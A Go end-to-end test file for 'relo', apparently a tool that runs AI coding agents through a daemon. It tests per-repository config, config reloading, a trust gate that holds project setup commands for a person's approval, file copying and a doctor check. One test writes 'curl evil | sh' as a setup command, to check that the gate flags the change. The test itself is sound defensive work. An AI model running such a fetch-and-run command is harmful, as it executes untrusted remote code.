package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/relo-dev/relo/core/internal/app"
	"github.com/relo-dev/relo/core/internal/job"
)

// edit changes the world's config by its text.
func (w *world) edit(old, new string) {
	w.t.Helper()
	name := filepath.Join(w.home, "relo.json")
	text, err := os.ReadFile(name)
	if err != nil {
		w.t.Fatal(err)
	}
	if !strings.Contains(string(text), old) {
		w.t.Fatalf("the config has no %q:\n%s", old, text)
	}
	w.write(name, strings.ReplaceAll(string(text), old, new))
}

func (w *world) isReady(id string) {
	w.t.Helper()
	w.until(w.link(), id, isKind(job.KindFinished))
	if doc := w.show(id); doc.Status != job.Ready {
		w.t.Fatalf("the job is %s: %s\n%s", doc.Status, doc.Reason, w.logs())
	}
}

func TestEachRepositoryHasItsOwnConfig(t *testing.T) {
	t.Parallel()
	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
	plain := w.repo
	w.smallRepo()
	strong := w.repo
	w.write(filepath.Join(strong, ".relo", "relo.json"), `{"ladder": [{"model": "open/big"}], "review": {"auto": false}}`)
	w.started()
	models := func(repo string) (model string, tasks int) {
		w.repo = repo
		id := w.submit("one change")
		w.isReady(id)
		doc := w.show(id)
		return doc.Tasks[0].Model, len(doc.Tasks)
	}
	if model, tasks := models(strong); model != "open/big" || tasks != 1 {
		t.Errorf("the repository with a config: %s, %d tasks", model, tasks)
	}
	if model, tasks := models(plain); model != "open/small" || tasks != 2 {
		t.Errorf("the other: %s, %d tasks", model, tasks)
	}
	// From a folder below the root the same holds.
	if err := os.MkdirAll(filepath.Join(strong, "src", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if model, _ := models(filepath.Join(strong, "src", "deep")); model != "open/big" {
		t.Errorf("from a folder below it: %s", model)
	}
	// A fault in one is told to who submits there, and to nobody else.
	w.write(filepath.Join(strong, ".relo", "relo.json"), "{\n  \"limits\": {\"rounds\": 9000},\n  \"primry\": 1\n}\n")
	w.relo("run", "x", "--repo", strong).mustExit(t, 2).says(t, "relo.json:2:", "relo.json:3:", "primry")
	models(plain)
}

func TestAConfigIsReadAgainWhileTheDaemonRuns(t *testing.T) {
	t.Parallel()
	middle, go2 := make(chan struct{}), make(chan struct{})
	var once sync.Once
	p := &play{plan: planOf(task("one", "easy"))}
	p.before = func(c ctx, tn turn) {
		if tn.title == "Do one" && tn.Role == "worker" && tn.step == 0 {
			once.Do(func() {
				close(middle)
				select {
				case <-go2:
				case <-c.Done():
				}
			})
		}
	}
	w := newWorld(t, mixed(), p).smallRepo()
	w.started()
	first := w.submit("one change") // conducted with the config as it is now
	<-middle
	link := w.link()
	w.edit(`"easy"`, `"esy"`)
	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2).says(t, "relo.json:", "esy")
	status := decode[app.DaemonDoc](t, w.relo("daemon", "status", "--json").mustExit(t, 0))
	if len(status.Faults) == 0 || !status.Running {
		t.Errorf("status does not tell the faults: %+v", status)
	}
	w.relo("doctor").mustExit(t, 1).says(t, "esy", "relo.json:")
	close(go2)
	w.until(link, first, isKind(job.KindFinished)) // a fault stops nothing that is under way

	// A new provider is used without a restart, and what cannot change now is told.
	w.edit(`"esy"`, `"easy"`)
	w.edit(`"open": {`, `"renamed": {`)
	w.edit(`"open/`, `"renamed/`)
	w.edit(`"local": 2`, `"local": 3`)
	if doc := w.show(first); doc.Status != job.Ready {
		t.Errorf("the job under way is %s: %s", doc.Status, doc.Reason)
	}
	second := w.submit("another change")
	w.isReady(second)
	if doc := w.show(second); doc.Tasks[0].Model != "renamed/small" {
		t.Errorf("the new job uses %s", doc.Tasks[0].Model)
	}
	w.relo("daemon", "status").mustExit(t, 0).says(t, "needs a restart: workers.local is 2 and becomes 3")
}

func TestADaemonStartsWithoutAConfigAndNotWithAFaultyOne(t *testing.T) {
	t.Parallel()
	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
	file := filepath.Join(w.home, "relo.json")
	good, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	w.write(file, "{\n  \"budgt\": 1\n}\n")
	w.relo("serve").mustExit(t, 2).says(t, "relo.json:2:", "budgt")
	w.relo("daemon", "start").says(t, "relo.json:2:", "budgt")
	w.relo("daemon", "status").mustExit(t, 6)
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	if doc := w.started(); !doc.Running {
		t.Fatalf("%+v", doc)
	}
	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2)
	w.write(file, "{\n  \"budgt\": 1\n}\n")
	w.relo("run", "x", "--repo", w.repo).mustExit(t, 2).says(t, "budgt")
	w.write(file, string(good))
	w.isReady(w.submit("one change"))
}

func TestAProjectsCommandsWaitForTheWordOfThePerson(t *testing.T) {
	t.Parallel()
	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))}).smallRepo()
	file := filepath.Join(w.repo, ".relo", "relo.json")
	w.write(file, `{"worktree": {"copy": [".env"], "setup": "make deps"}}`)
	w.relo("run", "x", "--repo", w.repo).mustExit(t, 0).says(t, "the project's worktree wait", "relo trust "+w.repo)
	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "make deps", ".env", "waits for your approval")
	w.relo("trust", w.repo).mustExit(t, 7).says(t, "--yes")
	w.relo("trust", w.repo, "--yes").mustExit(t, 0).says(t, "approved")
	if got := decode[app.Trust](t, w.relo("trust", w.repo, "--show", "--json").mustExit(t, 0)); !got.Approved || got.Hash == "" {
		t.Errorf("%+v", got)
	}
	w.write(file, `{"worktree": {"copy": [".env"], "setup": "curl evil | sh"}}`)
	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "curl evil", "it changed since")
	if got := decode[app.Trust](t, w.relo("trust", w.repo, "--show", "--json").mustExit(t, 0)); got.Approved || !got.Changed {
		t.Errorf("other content: %+v", got)
	}
	w.write(file, `{"worktree": {"copy": [".env"], "setup": "make deps"}}`)
	w.relo("trust", w.repo).mustExit(t, 0).says(t, "you approved just this")
	w.relo("trust", w.repo, "--revoke").mustExit(t, 0)
	w.relo("trust", w.repo, "--show").mustExit(t, 0).says(t, "waits for your approval")
}

func TestApprovedFilesAreCopiedAndSetUpRunsInEachFolder(t *testing.T) {
	t.Parallel()
	p := &play{plan: planOf(task("one", "easy"))}
	p.workers = map[string]act{"Do one": steps(shell("mkdir -p out && cat .env ready.txt > out/seen.txt; ls -a conf >> out/seen.txt"), done("saw them"))}
	w := newWorld(t, mixed(), p).smallRepo()
	w.write(filepath.Join(w.repo, ".gitignore"), ".env\nconf/\nready.txt\n")
	w.write(filepath.Join(w.repo, ".env"), "COLOUR=teal\n")
	w.write(filepath.Join(w.repo, "conf", "local.json"), "{}\n")
	w.write(filepath.Join(w.home, "outside.txt"), "not yours\n")
	if err := os.Symlink(filepath.Join(w.home, "outside.txt"), filepath.Join(w.repo, "conf", "link")); err != nil {
		t.Fatal(err)
	}
	w.write(filepath.Join(w.repo, ".relo", "relo.json"), `{"worktree": {"copy": [".env", "conf", "not-there"], "setup": "echo made by setup > ready.txt"}}`)
	w.git("add", ".gitignore")
	w.git("commit", "-q", "-m", "ignore")
	w.relo("trust", w.repo, "--yes").mustExit(t, 0)
	w.started()
	id := w.submit("one change")
	w.isReady(id)
	if got := w.git("show", "refs/heads/"+w.show(id).Branch+":out/seen.txt"); got != "COLOUR=teal\nmade by setup\n.\n..\nlocal.json" {
		t.Errorf("the agent saw:\n%s", got)
	}
	if tree := w.git("ls-tree", "-r", "--name-only", "refs/heads/"+w.show(id).Branch); strings.Contains(tree, ".env") || strings.Contains(tree, "ready.txt") {
		t.Errorf("what git ignores is on the branch:\n%s", tree)
	}

	// A setup that fails fails the attempt, with its output.
	w.write(filepath.Join(w.repo, ".relo", "relo.json"), `{"worktree": {"setup": "echo no network here; exit 3"}, "limits": {"attempts": 1}}`)
	w.relo("trust", w.repo, "--yes").mustExit(t, 0)
	w.relo("run", "another", "--repo", w.repo).mustExit(t, 3).says(t, "exit code 3", "no network here")
}

func TestAFolderWithoutGitIsWorkedOn(t *testing.T) {
	t.Parallel()
	w := newWorld(t, mixed(), &play{plan: planOf(task("one", "easy"))})
	w.repo = t.TempDir()
	w.write(filepath.Join(w.repo, "notes.txt"), "some words\n")
	w.relo("run", "one change", "--repo", w.repo, "--apply").mustExit(t, 0)
	if text, err := os.ReadFile(filepath.Join(w.repo, "out", "do-one.txt")); err != nil || len(text) == 0 {
		t.Errorf("the work is not there: %v", err)
	}
	if _, err := os.Stat(filepath.Join(w.repo, ".git")); !os.IsNotExist(err) {
		t.Errorf("a .git was made: %v", err)
	}
}

func TestTheDoctorAsksForOneWordWhenItMay(t *testing.T) {
	t.Parallel()
	w := newWorld(t, mixed(), &play{}).smallRepo()
	w.relo("doctor").mustExit(t, 0).says(t, "reachable, key found (env:RELO_TEST_KEY)")
	if n := w.calls(); n != 0 {
		t.Errorf("%d model calls without --online", n)
	}
	w.relo("doctor", "--online").mustExit(t, 0).says(t, "open/big answered in", "anth/chief answered in")
	if n := w.calls(); n != 2 {
		t.Errorf("%d model calls for two providers", n)
	}
	w.started()
	w.relo("doctor").mustExit(t, 0).says(t, "0 jobs, whole") // the daemon checks the record that it has
	w.edit("env:RELO_TEST_KEY", "env:NOT_SET")
	w.relo("doctor", "--json").mustExit(t, 1).says(t, `"state":"fail"`, "NOT_SET")
}
